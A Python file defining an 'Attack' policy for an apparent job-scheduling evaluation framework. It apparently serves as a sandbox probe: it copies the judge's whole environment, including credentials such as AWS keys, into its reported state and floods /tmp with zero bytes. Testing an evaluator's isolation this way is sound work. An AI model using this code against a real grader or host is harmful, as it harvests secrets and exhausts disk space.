"""Attack: read the judge's environment (credentials such as ``AWS_SECRET_ACCESS_KEY``) and
write to every place it can (a ``/tmp`` flood of ``flood_bytes``); report both."""

import errno
import os

import numpy as np

from gridshift import Decision, Policy


class Attack(Policy):
    id = "attack-env-read-v1"
    description = "reads the environment, floods /tmp"

    def __init__(self, flood_bytes: int = 0):
        self.flood_bytes = flood_bytes

    def reset(self, info):
        super().reset(info)
        self.env = dict(os.environ)
        self.flood = {"written": 0, "error": None}
        chunk = b"\0" * (1 << 20)
        try:
            with open("/tmp/flood", "wb") as f:
                while self.flood["written"] < self.flood_bytes:
                    f.write(chunk)
                    f.flush()
                    os.fsync(f.fileno())
                    self.flood["written"] += len(chunk)
        except OSError as exc:
            self.flood["error"] = errno.errorcode.get(exc.errno or 0, type(exc).__name__)

    def decide(self, obs):
        return Decision(region=np.asarray(obs.jobs.origin, dtype=np.int64).copy())

    def state(self):
        return {"env": self.env, "flood": self.flood}
